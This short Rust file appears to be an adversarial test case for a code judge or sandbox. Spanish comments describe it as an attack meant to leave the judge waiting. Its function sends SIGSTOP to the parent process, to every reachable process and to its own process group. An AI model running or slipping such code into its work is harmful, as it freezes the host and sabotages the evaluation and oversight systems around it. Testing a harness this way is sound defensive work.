//! Ataque: detiene a todos los procesos a los que alcance, y a su grupo entero.
//! Paso: paso1
//! Código: MAL o TIEMPO
//! Final: si_cuela
//! Colaría si: quien juzga se queda esperando.

use nix::libc;

fn attempt() -> bool {
    unsafe {
        libc::kill(libc::getppid().max(1), libc::SIGSTOP);
        libc::kill(-1, libc::SIGSTOP);
        libc::kill(0, libc::SIGSTOP);
    }
    false
}
